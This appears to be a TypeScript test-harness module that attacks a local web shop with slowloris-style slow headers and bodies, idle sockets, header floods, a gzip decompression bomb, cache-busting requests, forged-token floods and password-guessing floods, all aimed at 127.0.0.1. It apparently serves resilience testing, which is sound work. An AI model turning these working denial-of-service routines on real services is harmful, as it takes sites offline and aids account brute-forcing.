import { randomBytes } from 'node:crypto';
import { connect, type Socket } from 'node:net';
import { setTimeout as wait } from 'node:timers/promises';
import { gzipSync } from 'node:zlib';
import { openLine } from '../fuzz/wire.ts';

export type Battle = { port: number; addresses: string[]; sockets: number };
/** What became of an attack: connections that were cut or refused, and replies by their status. */
export type Outcome = { opened: number; cut: number; replies: Record<string, number> };
type Attack = (battle: Battle, outcome: Outcome) => Promise<unknown>;

const MB = 1024 * 1024;
const DRIP_MS = 1000;
// So that a whole crowd does not wait in the queue of a socket that is not listened to yet.
const AT_A_TIME = 100;

/** What somebody with an evening to spare does to a shop; each goes on until its process is ended. */
export const ATTACKS = {
  'slow headers': dripping('GET / HTTP/1.1\r\nHost: shop\r\n', 'X-Slow: y\r\n'),
  'slow bodies': dripping(
    'POST /api/auth/login HTTP/1.1\r\nHost: shop\r\nContent-Type: application/json\r\nContent-Length: 5000\r\n\r\n',
    ' ',
  ),
  'idle sockets': dripping('', ''),
  'header floods': flood(() => {
    // One in four is above what is read at all.
    const lines = Math.random() < 0.25 ? 300 : 150;
    return get(
      '/about',
      'X-Flood: 0123456789012345678901234567890123456789012345678901234567890123456789\r\n'.repeat(lines),
    );
  }),
  'gzip bombs': flood(() => (bomb ??= aBomb())),
  'uncacheable pages': flood(() => get(anUncacheablePage())),
  'forged tokens': flood(() => get('/api/orders/my-orders', `Authorization: Bearer ${token()}\r\n`)),
  'wrong passwords': flood(() => login()),
} satisfies Record<string, Attack>;

export type AttackName = keyof typeof ATTACKS;

const token = () => randomBytes(32).toString('base64url');
const get = (path: string, headers = '') => Buffer.from(`GET ${path} HTTP/1.1\r\nHost: shop\r\n${headers}\r\n`);

function anUncacheablePage(): string {
  const word = randomBytes(4).toString('hex');
  const pages = [`/search?q=${word}`, `/cart?from=${word}`, `/${word}`, `/product/${word}`, `/checkout?${word}`];
  return pages[Math.floor(Math.random() * pages.length)] ?? '/cart';
}

let bomb: Buffer | undefined;

/** A little below what web reads, and hundreds of times as much when unpacked. */
function aBomb(): Buffer {
  const packed = gzipSync(Buffer.alloc(200 * MB, 32), { level: 1 });
  const head =
    'POST /api/auth/login HTTP/1.1\r\nHost: shop\r\nContent-Type: application/json\r\nContent-Encoding: gzip\r\n';
  return Buffer.concat([Buffer.from(`${head}Content-Length: ${packed.length}\r\n\r\n`), packed]);
}

function login(): Buffer {
  const body = JSON.stringify({ identifier: `${token().slice(0, 8)}@example.com`, password: token() });
  return Buffer.from(
    `POST /api/auth/login HTTP/1.1\r\nHost: shop\r\nContent-Type: application/json\r\nContent-Length: ${body.length}\r\n\r\n${body}`,
  );
}

/** Connections that are opened, say a little now and then, and are opened again when they are cut. */
function dripping(start: string, drop: string): Attack {
  return async ({ port, addresses, sockets }, outcome) => {
    const open = new Set<Socket>();
    const dial = (n: number) => {
      const socket = connect({ port, host: '127.0.0.1', localAddress: addresses[n % addresses.length] });
      socket.on('error', () => {}).on('data', () => {});
      socket.once('connect', () => {
        outcome.opened += 1;
        open.add(socket);
        if (start) socket.write(start);
      });
      socket.once('close', () => {
        open.delete(socket);
        outcome.cut += 1;
        setTimeout(dial, DRIP_MS, n);
      });
    };
    for (let n = 0; n < sockets; n++) {
      dial(n);
      if (n % AT_A_TIME === 0) await wait(20);
    }
    setInterval(() => {
      if (drop) for (const socket of open) socket.write(drop);
    }, DRIP_MS);
  };
}

/** As many requests as can be answered, so many at once. */
function flood(request: () => Buffer): Attack {
  return async ({ port, addresses, sockets }, { replies }) => {
    const one = async (n: number) => {
      const line = openLine(port, addresses[n % addresses.length]);
      for (;;) {
        const { status } = await line.ask(request(), { bodyless: false, last: false, hangUp: false });
        replies[status] = (replies[status] ?? 0) + 1;
      }
    };
    for (let n = 0; n < sockets; n++) void one(n);
  };
}
